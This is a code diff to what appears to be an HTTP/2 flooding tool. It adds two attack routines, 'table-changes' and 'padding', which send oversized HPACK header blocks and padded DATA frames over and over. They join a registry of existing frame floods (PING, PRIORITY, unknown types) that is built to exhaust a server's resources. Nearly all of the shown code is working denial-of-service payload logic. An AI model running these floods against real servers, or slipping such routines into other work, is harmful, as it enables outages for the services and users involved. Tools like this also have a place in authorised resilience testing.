@@ -165,6 +165,15 @@ async def big_headers(peer: Stranger) -> None:
     await repeat(peer, lambda: peer.call(CHECK) + frame(frames.HEADERS, frames.END_HEADERS, peer.stream_id + 2, block))
 
 
+async def table_changes(peer: Stranger) -> None:
+    await repeat(peer, lambda: frame(frames.HEADERS, frames.END_HEADERS, 1, b"\x20" * 16_000 + b"\x82"))
+
+
+async def padding(peer: Stranger) -> None:
+    await peer.send(peer.call(PROVISION))
+    await repeat(peer, lambda: frame(frames.DATA, frames.PADDED, peer.stream_id, b"\xc8" + bytes(200)) * 100)
+
+
 def flood(kind: int, flags: int, stream_id: int, payload: bytes) -> Callable[[Stranger], Awaitable[None]]:
     async def attack(peer: Stranger) -> None:
         await repeat(peer, lambda: frame(kind, flags, stream_id, payload) * 200)
@@ -190,6 +199,8 @@ KINDS: dict[str, Callable[[Stranger], Awaitable[None]]] = {
     "tokens": tokens,
     "small-data": small_data,
     "big-headers": big_headers,
+    "table-changes": table_changes,
+    "padding": padding,
     "ping": flood(frames.PING, 0, 0, bytes(8)),
     "priority": flood(frames.PRIORITY, 0, 3, bytes(5)),
     "unknown": flood(0xEE, 0, 1, bytes(1000)),
